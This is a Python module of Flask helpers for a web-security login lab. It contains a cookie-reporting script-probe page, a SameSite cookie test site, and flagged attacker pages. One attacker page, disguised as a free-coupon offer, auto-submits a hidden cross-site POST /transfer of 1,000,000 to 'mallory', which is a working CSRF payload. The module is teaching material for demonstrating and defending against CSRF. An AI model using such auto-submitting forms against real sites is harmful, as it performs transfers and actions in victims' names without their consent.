"""Browser pieces of the login labs: the ⚠️ attacker site, the script-probe page, reading results from the DOM.

* ``create_attacker_app(target_url)`` — a page on another site that auto-submits a
  cross-site ``POST /transfer`` (CSRF);
* ``SCRIPT_PROBE_PAGE`` — its JavaScript logs in and writes what ``document.cookie`` shows
  into the DOM; served at ``GET /lab/script-probe`` by the ⚠️ VULNERABLE login app, and beside
  any app by the lab harness ``with_script_probe(app)`` (the secure app has no lab routes);
  ``?next=`` is followed only to a same-origin path or a URL the harness allows;
* ``parse_result(dom)`` — the JSON such a page left in its ``<pre>``;
* ``create_samesite_site()`` / ``create_samesite_attacker(site_url)`` — a site that sets one
  cookie per ``SameSite`` value and records which cookies each request brought
  (``app.seen``), and another site whose pages reach it by a form POST, a link (top-level
  GET) and an image.
"""

from __future__ import annotations

import html
import json
import re

from flask import Flask, request

__all__ = [
    "create_attacker_app",
    "SCRIPT_PROBE_PAGE",
    "PROBE_PATH",
    "script_probe_page",
    "ScriptProbeHost",
    "with_script_probe",
    "parse_result",
    "SAMESITE_COOKIES",
    "create_samesite_site",
    "create_samesite_attacker",
]

_SCRIPT_PROBE_TEMPLATE = """<!doctype html><meta charset="utf-8"><title>script probe</title>
<pre id="result">waiting</pre>
<script>
const ALLOWED_NEXT = %s;  // fixed by the lab's server, never by the URL
function safeNext(v) {  // no open redirect: a same-origin relative path, or a URL the lab allowed
  if (!v) return null;
  if (ALLOWED_NEXT.includes(v)) return v;
  return (v.startsWith('/') && !v.startsWith('//') && !v.startsWith('/\\\\')) ? v : null;
}
(async () => {
  const q = new URLSearchParams(location.search);
  const login = await fetch('/login', {method: 'POST', headers: {'Content-Type': 'application/json'},
    body: JSON.stringify({username: q.get('u'), password: q.get('p')})});
  const me = await fetch('/me');
  document.getElementById('result').textContent = JSON.stringify({
    login_status: login.status, me_status: me.status, document_cookie: document.cookie});
  const next = safeNext(q.get('next'));
  if (next) setTimeout(() => { location.href = next; }, 50);
})().catch(e => { document.getElementById('result').textContent = 'error: ' + e; });
</script>"""

PROBE_PATH = "/lab/script-probe"


def script_probe_page(allowed_next=()) -> str:
    """The probe page; ``?next=`` is followed only to a same-origin path or one of ``allowed_next``."""
    return _SCRIPT_PROBE_TEMPLATE % json.dumps(sorted(allowed_next)).replace("<", "\\u003c")


SCRIPT_PROBE_PAGE = script_probe_page()


class ScriptProbeHost:
    """A lab harness (WSGI): serves the script-probe page at ``/lab/script-probe`` beside ``app``.

    The secure login app has no lab routes of its own; a lab serves ``with_script_probe(app)``
    instead of ``app`` when a real browser must run page JavaScript on the app's origin.
    ``allowed_next`` holds the cross-site URLs the page may move on to (set by the lab code,
    not by the URL); everything else goes to ``app`` untouched. ``.lab`` is ``app.lab``.
    """

    def __init__(self, app) -> None:
        self.app = app
        self.allowed_next: set[str] = set()
        self.lab = getattr(app, "lab", None)
        app.extensions["script_probe"] = self  # lab helpers given the Flask app find the harness

    def __call__(self, environ, start_response):
        if environ.get("PATH_INFO") == PROBE_PATH and environ.get("REQUEST_METHOD") in ("GET", "HEAD"):
            body = script_probe_page(self.allowed_next).encode()
            start_response(
                "200 OK",
                [
                    ("Content-Type", "text/html; charset=utf-8"),
                    ("Content-Length", str(len(body))),
                    ("Cache-Control", "no-store"),
                ],
            )
            return [body]
        return self.app(environ, start_response)


def with_script_probe(app) -> ScriptProbeHost:
    """``app`` plus the lab's script-probe page (see ``ScriptProbeHost``)."""
    return ScriptProbeHost(app)


def create_attacker_app(target_url: str, to: str = "mallory", amount: int = 1_000_000) -> Flask:
    """⚠️ 공격자 사이트 (attacker site): its page auto-submits a POST /transfer to ``target_url``.

    Serve it on another *site* than the target (``localhost`` vs ``127.0.0.1``) to
    make the POST cross-site, as a malicious page in another tab would.
    """
    app = Flask("attacker")
    page = f"""<!doctype html><meta charset="utf-8"><title>무료 쿠폰!</title>
<form id="f" method="post" action="{html.escape(target_url.rstrip("/"))}/transfer">
<input type="hidden" name="to" value="{html.escape(to)}">
<input type="hidden" name="amount" value="{int(amount)}"></form>
<script>document.getElementById('f').submit();</script>"""

    @app.get("/")
    def index():
        return page

    return app


def parse_result(dom: str) -> dict | None:
    """The JSON the script probe (or a JSON response shown by the browser) left in the DOM."""
    m = re.search(r"<pre[^>]*>(.*?)</pre>", dom, re.S)
    if not m:
        return None
    try:
        return json.loads(html.unescape(m.group(1)))
    except ValueError:
        return None


# cookie name → the SameSite attribute it is set with ("" = no SameSite attribute at all)
SAMESITE_COOKIES = {"strict": "Strict", "lax": "Lax", "none": "None", "unspecified": ""}


def create_samesite_site() -> Flask:
    """A site with one cookie per SameSite value; ``app.seen`` records what every ``/probe/<label>`` got.

    ``GET /set`` sets the cookies (10 minutes, ``SameSite=None`` needs ``Secure``) and, with
    ``?next=URL``, moves on to that page; ``GET /same`` links to ``/probe/same-site`` (a
    same-site request, the control). Each record: label, method, the cookies that came
    (sorted names), ``Sec-Fetch-Site``, ``Origin``.
    """
    app = Flask("samesite_site")
    app.seen = []  # type: ignore[attr-defined]

    @app.get("/set")
    def set_cookies():
        nxt = request.args.get("next", "")
        go = (
            f"<script>setTimeout(() => {{ location.href = {json.dumps(nxt)}; }}, 50);</script>" if nxt else ""
        )
        resp = app.make_response(f"<!doctype html><pre>cookies set</pre>{go}")
        for name, samesite in SAMESITE_COOKIES.items():
            resp.set_cookie(
                name, "1", max_age=600, path="/", samesite=samesite or None, secure=samesite == "None"
            )
        return resp

    @app.get("/same")
    def same_site_link():
        return "<!doctype html><script>location.href = '/probe/same-site';</script>"

    @app.route("/probe/<label>", methods=["GET", "POST"])
    def probe(label: str):
        app.seen.append(  # type: ignore[attr-defined]
            {
                "label": label,
                "method": request.method,
                "cookies": sorted(request.cookies),
                "sec_fetch_site": request.headers.get("Sec-Fetch-Site"),
                "origin": request.headers.get("Origin"),
            }
        )
        return "<!doctype html><pre>{}</pre>"

    return app


def create_samesite_attacker(site_url: str) -> Flask:
    """⚠️ Another site: ``/post`` auto-submits a form POST to the site, ``/link`` navigates to it
    (top-level GET), ``/img`` loads an image from it (a subresource)."""
    app = Flask("samesite_attacker")
    base = html.escape(site_url.rstrip("/"))

    @app.get("/post")
    def post():
        return (
            f'<!doctype html><form id="f" method="post" action="{base}/probe/cross-site-post">'
            '<input type="hidden" name="x" value="1"></form>'
            "<script>document.getElementById('f').submit();</script>"
        )

    @app.get("/link")
    def link():
        return f"<!doctype html><script>location.href = '{base}/probe/cross-site-link';</script>"

    @app.get("/img")
    def img():
        return f'<!doctype html><img src="{base}/probe/cross-site-img">'

    return app
